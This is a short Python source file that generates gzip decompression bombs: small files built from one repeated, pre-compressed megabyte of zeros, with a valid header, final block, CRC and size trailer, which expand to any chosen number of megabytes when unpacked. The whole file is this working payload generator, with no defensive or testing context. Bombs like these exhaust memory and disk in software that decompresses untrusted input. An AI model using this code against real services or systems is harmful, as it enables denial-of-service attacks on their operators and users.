"""A gzip file of zeros that is a thousandth of its size, made in a moment and in little memory."""

import zlib

MEGABYTE = bytes(1_000_000)
HEAD = b"\x1f\x8b\x08\0\0\0\0\0\x02\xff"  # compressed by deflate, slowest; no name, no time
LAST_BLOCK = b"\x03\0"  # of nothing


def gzip_bomb(megabytes: int) -> bytes:
    """This many megabytes of zeros: one compressed megabyte that refers to nothing before it, repeated."""
    press = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    block = press.compress(MEGABYTE) + press.flush(zlib.Z_FULL_FLUSH)
    check = 0
    for _ in range(megabytes):
        check = zlib.crc32(MEGABYTE, check)
    size = megabytes * len(MEGABYTE) % 2**32
    return HEAD + block * megabytes + LAST_BLOCK + check.to_bytes(4, "little") + size.to_bytes(4, "little")
